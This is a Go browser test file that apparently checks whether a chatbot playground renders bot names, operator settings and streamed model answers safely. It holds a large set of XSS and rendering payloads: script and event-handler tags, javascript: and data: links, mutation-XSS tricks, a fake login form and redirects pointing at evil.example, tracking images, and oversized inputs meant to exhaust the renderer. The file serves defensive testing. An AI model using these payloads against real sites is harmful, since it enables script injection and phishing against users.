package playground_test

import (
	"context"
	_ "embed"
	"encoding/json"
	"strings"
	"testing"

	"github.com/poebridge/poebridge/functions/local/internal/playground"
	"github.com/poebridge/poebridge/functions/local/internal/playground/browsertest"
)

const (
	attack = `<img src=x onerror="window.ran=1"><script>window.ran=1</script></div></li></ul></main>`
	name   = `<img src=x onerror="window.ran=1"> \ "name"` // no name has a slash
)

// hostileSite has texts of others in all places.
type hostileSite struct{ oneBot }

func (hostileSite) Site(context.Context) playground.Site {
	bad := ready(name)
	bad.URL, bad.Kind, bad.Model, bad.Warnings = "javascript:window.ran=1", attack, attack, []string{attack}
	worse := ready("worse")
	worse.State, worse.Problems = playground.StateInvalid, []string{attack, attack + "2"}
	return playground.Site{Version: attack, Answers: attack, Groups: []playground.Group{
		{Name: "group", Bots: []playground.Bot{ready("bot")}, Problems: []string{attack}},
		{Name: name, Bots: []playground.Bot{bad, worse}, Problems: []string{}},
	}}
}

// hostileSettings have them where a bot's operator writes texts.
var hostileSettings = map[string]any{
	"response_version": 2, "introduction_message": attack + "[a](javascript:window.ran=1)", "rate_card": attack, "cost_label": attack,
	"parameter_controls": map[string]any{"api_version": "2", "sections": []any{map[string]any{"name": attack, "controls": []any{
		map[string]any{"control": "text_field", "label": attack, "description": attack, "placeholder": attack, "default_value": attack, "parameter_name": "a"},
		map[string]any{"control": "drop_down", "label": attack, "parameter_name": attack, "default_value": attack, "options": []any{
			map[string]any{"value": attack, "name": attack}}},
	}}}},
}

func TestNamesAndProblemsAreTextsAndNothingElse(t *testing.T) {
	page := browsertest.Open(t, served(t, hostileSite{}, answers(t, func(string) []sent { return nil }, hostileSettings)), browsertest.Wide)
	for _, bot := range []string{"worse", name} {
		page.Choose(name + "/" + bot)
		page.WaitText(".side", attack)
		page.WaitText(".head", name)
		page.WaitText(".introduction", attack)
		page.WaitText("main details summary", "Controls")
		page.Do("document.querySelectorAll('main details').forEach((d) => { d.open = true; })")
		page.Wait("document.querySelector('main label')?.innerText.includes(%s)", browsertest.Quote(attack))
		page.Say("Good day")
		page.WaitAnswer("You said")
		page.WaitEnd()
	}
	if n := page.Count("body img, body script, body iframe, main main"); n > 0 {
		t.Errorf("%d elements were made of texts", n)
	}
	if browsertest.Eval[bool](page, "'ran' in window") {
		t.Error("a text was run")
	}
}

// hostileAnswers are what a model can be brought to say, by their names, which are the
// messages that ask for them.
var hostileAnswers = map[string][]sent{
	"script":                     whole("<script>window.ran=1</script>"),
	"script in pieces":           {text("<scr"), text("ipt>window.r"), text("an=1</scr"), text("ipt>")},
	"script within a block":      whole("<div>\n\n<script>window.ran=1</script>\n\n</div>"),
	"image with a handler":       whole(`<img src=x onerror="window.ran=1">`),
	"svg with a handler":         whole(`<svg onload="window.ran=1"><script>window.ran=1</script><a xlink:href="javascript:window.ran=1"><text y="20">x</text></a></svg>`),
	"math with a namespace":      whole(`<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=window.ran=1>">`),
	"details with a handler":     whole(`<details open ontoggle="window.ran=1"><summary>x</summary></details>`),
	"frame":                      whole(`<iframe srcdoc="<script>parent.ran=1</script>"></iframe><iframe src="javascript:parent.ran=1"></iframe>`),
	"object and embed":           whole(`<object data="javascript:window.ran=1"></object><embed src="javascript:window.ran=1">`),
	"form":                       whole(`<form action="https://evil.example"><input name="key" autofocus onfocus="window.ran=1"><button>Log in</button></form>`),
	"style":                      whole(`<style>.top, .composer { display: none !important }</style><link rel=stylesheet href=https://evil.example/x.css>`),
	"base and refresh":           whole(`<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`),
	"element over everything":    whole(`<div style="position:fixed;inset:0;z-index:99;background:red">x</div>`),
	"closing what is around":     whole("</div></li></ol></section></main></body></html>\n\nText after it.\n\n<main id=chat>"),
	"open comment":               whole("<!-- and all that follows"),
	"ids of the page":            whole(`<a id="chat" name="panel" href="#">x</a><form id=page><input name=body></form>`),
	"javascript link":            whole("[a](javascript:window.ran=1) [b](JaVaScRiPt:window.ran=1) [c](java\tscript:window.ran=1) [d](&#106;avascript:window.ran=1) [e](\x01javascript:window.ran=1)"),
	"javascript in brackets":     whole("<javascript:window.ran=1> [x]: javascript:window.ran=1\n\n[x]\n\n[y][z]\n\n[z]: <javascript:window.ran=1> 'title\" onmouseover=window.ran=1'"),
	"data and vbscript links":    whole("[a](data:text/html,<script>window.ran=1</script>) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x) [e](about:blank)"),
	"title with a handler":       whole(`[a](https://example.com "x\" onmouseover=\"window.ran=1") ![b](x.png "\"onerror=window.ran=1 x=\"")`),
	"image of another place":     whole("![seen](https://evil.example/seen.png) ![seen](//evil.example/seen.png) ![js](javascript:window.ran=1) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)"),
	"request of the playground":  whole("![x](/playground/api/site) ![y](api/site) [z](/playground/)"),
	"fence with html":            whole("```html\n<html><script>parent.ran=1; top.ran=1; window.ran=1</script><img src=https://evil.example/x></html>\n```"),
	"name of a fence":            whole("```<img/src=x/onerror=window.ran=1>\nx\n```\n\n~~~\" onclick=\"window.ran=1\nx\n~~~"),
	"open fence":                 whole("```js\nwindow.ran = 1\n</code></pre><script>window.ran=1</script>"),
	"formula with a link":        whole(`$\href{javascript:window.ran=1}{x}$ $$\url{javascript:window.ran=1}$$ $\htmlData{x=y}{z}$ $\htmlStyle{position:fixed}{z}$ $\includegraphics{https://evil.example/x}$`),
	"formula without an end":     whole(`$\def\x{\x\x}\x$ $$\begin{matrix} \frac{1}{ $$ $\gdef\y{<script>window.ran=1</script>}\y$`),
	"formula as large as can be": whole(`$\rule{99999em}{99999em}$ $$\kern{-9999em}\Huge x$$`),
	"formula of great depth":     whole("$$" + strings.Repeat("{", 2400) + strings.Repeat("}", 2400) + "$$"),
	"dollars of no formula":      whole(strings.Repeat("$ \\( $$a ", 7000)),
	"code of a megabyte":         whole("```go\n" + strings.Repeat("x := 1\n", 150_000)),
	"broken table":               whole("| a | b |\n|---|\n| 1 | 2 | 3 | <td onclick=window.ran=1>\n|---|---|---|\n||||||||"),
	"table of many columns":      whole(strings.Repeat("| x ", 3000) + "|\n" + strings.Repeat("|---", 3000) + "|\n" + strings.Repeat("| y ", 3000) + "|"),
	"one long word":              whole(strings.Repeat("Donaudampfschiff", 5000)),
	"line of a megabyte":         whole(strings.Repeat("*a [b](c) `d` <e> ", 25_000)),
	"quotes within quotes":       whole(strings.Repeat(">", 5000) + " x"),
	"lists within lists":         whole(strings.Repeat("- ", 3000) + "x"),
	"brackets":                   whole(strings.Repeat("[", 20_000) + strings.Repeat("![](", 5000) + strings.Repeat("**a _b ", 5000)),
	"direction of writing":       whole("\u202e\u2066abc" + strings.Repeat("\u0300", 500) + "\u202d"),
	"control characters":         whole("\x00\x1b[31m\uFFFE\uFEFF \v\f x"),
	"halves of characters":       {{"text", map[string]any{"text": json.RawMessage(`"\ud83d"`)}}, text("x")},
	"replaced":                   {text("good"), {"replace_response", map[string]any{"text": attack}}},
	"plain text":                 {{"meta", map[string]any{"content_type": "text/plain"}}, text(attack)},
	"error":                      {text("x"), {"error", map[string]any{"text": attack, "error_type": attack, "raw_response": attack, "allow_retry": false}}},
	"files": {text("![t][ref]"),
		{"file", map[string]any{"url": "javascript:window.ran=1", "content_type": "image/png", "name": attack, "inline_ref": "ref"}},
		{"file", map[string]any{"url": "javascript:window.ran=1", "content_type": attack, "name": "a"}},
		{"file", map[string]any{"url": "data:text/html,<script>window.ran=1</script>", "content_type": "text/html", "name": "b"}},
		{"file", map[string]any{"url": "https://evil.example/x.mp4", "content_type": "video/mp4", "name": "c"}}},
	"tool call": {{"json", map[string]any{"choices": []any{map[string]any{"index": 0, "finish_reason": nil, "delta": map[string]any{"tool_calls": []any{
		map[string]any{"index": 0, "id": attack, "type": "function", "function": map[string]any{"name": attack, "arguments": attack}}}}}}}},
		{"json", map[string]any{"choices": []any{map[string]any{"index": 0, "delta": map[string]any{}, "finish_reason": "tool_calls"}}}}},
	"unknown events": {{attack, map[string]any{attack: attack}}, {"__proto__", map[string]any{"__proto__": 1}}, text("x")},
	"wrong types":    {{"text", map[string]any{"text": map[string]any{"a": 1}}}, {"file", map[string]any{"url": 1}}, {"error", map[string]any{"text": []int{1}}}},
}

//go:embed browser_hostile_test.js
var around string

func TestAnAnswerChangesNothingOutsideOfItsBox(t *testing.T) {
	address := served(t, oneBot{bot: ready("bot")}, answers(t, func(message string) []sent { return hostileAnswers[message] }))
	all := browsertest.Open(t, address, browsertest.Wide)
	for name := range hostileAnswers {
		t.Run(name, func(t *testing.T) {
			page := all.In(t)
			page.Choose("group/bot")
			page.Say(name)
			page.WaitEnd()
			if faults := browsertest.Eval[[]string](page, "%s", around); len(faults) > 0 {
				t.Error(strings.Join(faults, "\n"))
			}
			page.CheckNow()
		})
	}
	all.Choose("group/bot")
	all.Say("Good day")
	all.WaitAnswer("You said: Good day")
}
